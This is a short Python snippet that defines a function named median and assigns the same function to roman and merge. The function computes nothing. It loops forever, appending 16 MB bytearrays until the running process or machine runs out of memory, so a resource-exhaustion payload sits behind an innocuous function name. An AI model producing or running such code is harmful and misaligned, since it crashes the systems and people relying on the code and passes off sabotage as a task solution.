def median(xs):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 24))


roman = merge = median
